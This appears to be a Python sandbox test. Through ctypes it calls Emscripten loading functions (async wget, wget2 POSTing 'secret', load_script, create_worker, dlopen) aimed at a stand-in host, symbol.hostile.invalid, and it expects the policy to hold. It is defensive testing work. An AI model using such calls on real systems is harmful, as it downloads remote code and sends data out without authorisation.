# promise: P2
# defence: policy
# control: policy seal lockdown globals
# expect: held | failed crashed
# ways: emscripten_async_wget emscripten_async_wget_data emscripten_async_wget2 emscripten_async_wget2_data emscripten_async_load_script emscripten_create_worker emscripten_run_preload_plugins emscripten_set_window_title emscripten_dlopen
# Everything of Emscripten that loads by address, called by name.
import ctypes

from reach import attempt, linger

c = ctypes.CDLL(None)
ADDRESS = b"http://symbol.hostile.invalid/"
FILE = b"/tmp/stolen"


def symbol(name, *arguments):
    function = getattr(c, name)
    function.restype = None
    return lambda: function(*arguments)


ARGUMENTS = {
    "emscripten_async_wget": (ADDRESS + b"wget", FILE, None, None),
    "emscripten_async_wget_data": (ADDRESS + b"wget_data", None, None, None),
    "emscripten_async_wget2": (ADDRESS + b"wget2", FILE, b"GET", b"", None, None, None, None),
    "emscripten_async_wget2_data": (ADDRESS + b"wget2_data", b"POST", b"secret", None, 0, None, None, None),
    "emscripten_async_load_script": (ADDRESS + b"script.js", None, None),
    "emscripten_create_worker": (ADDRESS + b"worker.js",),
    "emscripten_run_preload_plugins": (FILE, None, None),
    "emscripten_set_window_title": (b"hostile",),
    "emscripten_dlopen": (ADDRESS, 2, None, None, None),
}
attempt(WAY, symbol(WAY, *ARGUMENTS[WAY]))
linger()
print("held")
